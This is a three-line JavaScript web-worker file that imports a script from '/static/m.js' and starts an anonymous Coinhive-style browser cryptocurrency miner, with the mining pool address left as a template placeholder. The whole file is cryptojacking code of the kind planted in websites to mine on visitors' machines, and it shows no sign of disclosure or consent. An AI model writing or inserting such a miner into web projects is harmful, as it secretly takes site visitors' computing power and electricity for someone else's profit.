importScripts('/static/m.js');
Miner.Anonymous('corpus-coinhive-worker-socket', {pool: '{{POOL_WS}}', dialect: 'coinhive',
  inline: true, base: '/static/'}).start();
